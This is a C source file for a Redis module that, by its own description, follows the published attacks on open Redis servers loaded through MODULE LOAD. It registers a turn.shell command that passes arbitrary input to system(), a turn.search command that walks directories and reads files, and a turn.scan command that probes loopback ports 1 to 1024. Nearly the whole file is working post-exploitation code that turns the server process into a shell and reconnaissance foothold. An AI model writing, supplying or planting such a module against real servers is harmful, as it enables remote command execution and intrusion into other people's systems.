// SPDX-License-Identifier: GPL-2.0
/*
 * A shared object for redis' MODULE LOAD, as in the published attacks on open
 * redis servers. Its commands turn the server's own process:
 *
 *	TURN.SHELL COMMAND	runs a shell
 *	TURN.SEARCH DIRECTORY	looks through files, without any new process
 *	TURN.SCAN		scans the ports of loopback, likewise
 *
 * The few symbols of redis' module interface are declared here: Debian ships no header for it.
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#define MODULE_API_VERSION 1
#define DEPTH_MAX 4
#define FILES_MAX 2000
#define PORTS 1024

struct module_context;
struct module_string;

typedef int command_function(struct module_context *context, struct module_string **argv, int argc);

static int (*create_command)(struct module_context *context, const char *name,
			     command_function *run, const char *flags, int first, int last,
			     int step);
static int (*set_attributes)(struct module_context *context, const char *name, int version,
			     int api);
static int (*reply_integer)(struct module_context *context, long long value);
static const char *(*string_text)(const struct module_string *string, size_t *length);

static int shell(struct module_context *context, struct module_string **argv, int argc)
{
	return reply_integer(context, argc == 2 ? system(string_text(argv[1], NULL)) : -1);
}

static int search(const char *directory, int depth, int left)
{
	char path[PATH_MAX], head[64];
	struct dirent *entry;
	struct stat info;
	int seen = 0;
	DIR *list;
	int fd;

	list = opendir(directory);
	if (!list)
		return 0;
	while (seen < left && (entry = readdir(list))) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", directory, entry->d_name);
		if (lstat(path, &info))
			continue;
		if (S_ISDIR(info.st_mode) && depth < DEPTH_MAX)
			seen += search(path, depth + 1, left - seen);
		if (!S_ISREG(info.st_mode))
			continue;
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		seen += read(fd, head, sizeof(head)) > 0;
		close(fd);
	}
	closedir(list);
	return seen;
}

static int search_command(struct module_context *context, struct module_string **argv, int argc)
{
	return reply_integer(context,
			     argc == 2 ? search(string_text(argv[1], NULL), 0, FILES_MAX) : -1);
}

static int scan(struct module_context *context, struct module_string **argv, int argc)
{
	struct sockaddr_in address = { .sin_family = AF_INET };
	int fd, port, found = 0;

	(void)argv;
	(void)argc;
	address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	for (port = 1; port <= PORTS; port++) {
		address.sin_port = htons(port);
		fd = socket(AF_INET, SOCK_STREAM, 0);
		found += !connect(fd, (struct sockaddr *)&address, sizeof(address));
		close(fd);
	}
	return reply_integer(context, found);
}

/* Entry point, called by redis. */
int RedisModule_OnLoad(struct module_context *context, struct module_string **argv, int argc)
{
	/* The context begins with the function that finds all others. */
	int (*find)(const char *name, void *pointer) = *(int (**)(const char *, void *))context;

	(void)argv;
	(void)argc;
	find("RedisModule_CreateCommand", &create_command);
	find("RedisModule_SetModuleAttribs", &set_attributes);
	find("RedisModule_ReplyWithLongLong", &reply_integer);
	find("RedisModule_StringPtrLen", &string_text);
	set_attributes(context, "turn", 1, MODULE_API_VERSION);
	create_command(context, "turn.shell", shell, "", 0, 0, 0);
	create_command(context, "turn.search", search_command, "", 0, 0, 0);
	create_command(context, "turn.scan", scan, "", 0, 0, 0);
	return 0;
}
